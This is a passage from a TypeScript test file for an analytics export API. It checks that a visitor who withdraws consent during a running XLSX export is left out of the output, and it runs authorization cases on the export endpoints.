    const visitorId = (report.converting_visitors as { visitor_id: string }[])[1]?.visitor_id ?? "";
    expect(visitorId).toMatch(/^[0-9a-f-]{36}$/);
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    beforeRender = (doc) => (doc.funnelName === shop.name ? held : Promise.resolve());
    try {
      const posted = await postExport({
        funnel_id: shop.id,
        report_type: "conversions",
        format: "xlsx",
        ...PERIOD,
      });
      const { job_id } = (await posted.json()) as { job_id: string };
      await waitFor(job_id, (s) => s.status === "processing" && s.progress > 0.5);
      expect((await withdraw(visitorId)).status).toBe(202);
      release();
      const done = await waitFor(job_id, (s) => s.status === "completed");
      const file = await t.app.request(done.download_url ?? "");
      const sheets = await readXlsx(Buffer.from(await file.arrayBuffer()));
      const visitors = sheets.find((s) => s.name === "Converting visitors")?.rows.slice(1) ?? [];
      expect(visitors).toHaveLength((report.converting_visitors as Json[]).length);
      expect(visitors.some((r) => r[0] === visitorId)).toBe(false);
    } finally {
      beforeRender = undefined;
      release();
    }
  });
});

describeAuthCases(
  "POST /api/v1/analytics/export",
  () => t,
  async ({ app, owner, headers }) => {
    const funnel = await seedFunnel(app, owner.headers);
    return app.request("/api/v1/analytics/export", {
      method: "POST",
      headers: { ...headers, "content-type": "application/json" },
      body: JSON.stringify({ funnel_id: funnel.funnelId, report_type: "overview", format: "csv", ...PERIOD }),
    });
  },
);

describeAuthCases(
  "GET /api/v1/analytics/export/{job_id}",
  () => t,
  async ({ app, owner, headers }) => {
    const funnel = await seedFunnel(app, owner.headers);
    const posted = await app.request("/api/v1/analytics/export", {
      method: "POST",
      headers: { ...owner.headers, "content-type": "application/json" },
      body: JSON.stringify({ funnel_id: funnel.funnelId, report_type: "overview", format: "csv", ...PERIOD }),
    });
    const { job_id } = (await posted.json()) as { job_id: string };
    return app.request(`/api/v1/analytics/export/${job_id}`, { headers });
  },
);
